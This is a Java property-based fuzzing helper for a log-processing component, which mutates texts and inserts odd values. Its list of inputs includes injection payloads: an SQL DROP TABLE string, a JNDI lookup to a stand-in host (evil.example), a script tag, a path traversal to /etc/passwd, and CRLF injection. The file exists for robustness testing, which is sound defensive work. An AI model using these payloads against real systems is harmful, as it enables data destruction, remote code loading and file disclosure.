package com.astrobookings.logs.fuzz;

import static org.quicktheories.generators.Generate.oneOf;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;

import java.util.List;
import java.util.function.UnaryOperator;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/** What can happen to a text on its way, and texts that nobody should send. */
final class Harms {

  private static final List<String> ODD =
      List.of(
          "",
          " ",
          "null",
          "-1",
          "1e999",
          "9".repeat(400),
          "\u0000",
          "\u202e",
          "\ud83d\ude80",
          "e\u0301",
          "\uff41",
          "*",
          "now-99999999999y",
          "'; DROP TABLE logs; --",
          "${jndi:ldap://evil.example/x}",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "%00%0d%0a",
          "=HYPERLINK(1)",
          "a".repeat(9_000),
          "(".repeat(40),
          "not ".repeat(40),
          "{\"a\":".repeat(600),
          "[".repeat(2_000));

  private Harms() {}

  static Gen<String> odd() {
    return Generate.pick(ODD);
  }

  /** A text after one to three small harms. */
  static Gen<String> harmed(Gen<String> texts) {
    return texts.zip(
        lists().of(harm()).ofSizeBetween(1, 3),
        (text, harms) -> {
          String harmed = text;
          for (UnaryOperator<String> harm : harms) {
            harmed = harm.apply(harmed);
          }
          return harmed;
        });
  }

  private static Gen<UnaryOperator<String>> harm() {
    Gen<Integer> places = integers().between(0, 1_000);
    return oneOf(
        places.zip(integers().between(1, 12), (at, length) -> text -> without(text, at, length)),
        places.zip(odd(), (at, odd) -> text -> head(text, at) + odd + tail(text, at)),
        places.map(at -> text -> head(text, at)),
        Generate.constant(text -> text + text),
        odd().map(odd -> text -> text.replaceFirst("\"\\w+\":", "\"" + plain(odd) + "\":")),
        odd().map(odd -> text -> text.replaceFirst(":\"[^\"]*\"", ":\"" + plain(odd) + "\"")),
        Generate.constant(text -> text.replaceFirst(":\"[^\"]*\"", ":{\"deep\":[1,null,true]}")),
        Generate.constant(text -> text.replaceFirst("AUTH|ERROR|RECONCILE|NOTIFY", "OTHER")));
  }

  private static String without(String text, int at, int length) {
    String tail = tail(text, at);
    return head(text, at) + tail.substring(Math.min(length, tail.length()));
  }

  private static String head(String text, int at) {
    return text.substring(0, place(text, at));
  }

  private static String tail(String text, int at) {
    return text.substring(place(text, at));
  }

  private static int place(String text, int at) {
    return at % (text.length() + 1);
  }

  private static String plain(String text) {
    return text.replaceAll("[\"\\\\$\\p{Cntrl}]", "_");
  }
}
